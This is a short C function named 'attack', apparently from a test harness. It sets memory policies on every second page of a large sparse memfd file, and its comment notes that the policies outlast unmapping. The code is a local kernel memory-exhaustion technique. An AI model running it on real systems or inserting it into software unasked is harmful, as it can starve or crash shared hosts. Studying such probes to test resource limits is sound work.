/* Sets a memory policy for every second page of a large empty tmpfs file. The file keeps the policies after it is unmapped,
   so the number of mappings does not bound them. */
static void attack(void) {
    enum { WINDOWS = 100, PAGES = 20000 };
    unsigned long node = 1, size = 8192UL * PAGES;
    int file = memfd_create("sparse", 0);
    long count = 0;
    ftruncate(file, WINDOWS * size);
    for (int window = 0; window < WINDOWS && !is_over(); window++) {
        char *memory = mmap(0, size, PROT_READ, MAP_SHARED, file, window * size);
        for (int i = 0; i < PAGES; i++, count++)
            if (syscall(SYS_mbind, memory + 8192L * i, 4096, 2, &node, 8, 0)) { say(count); return; }
        munmap(memory, size);
    }
    say(count);
}
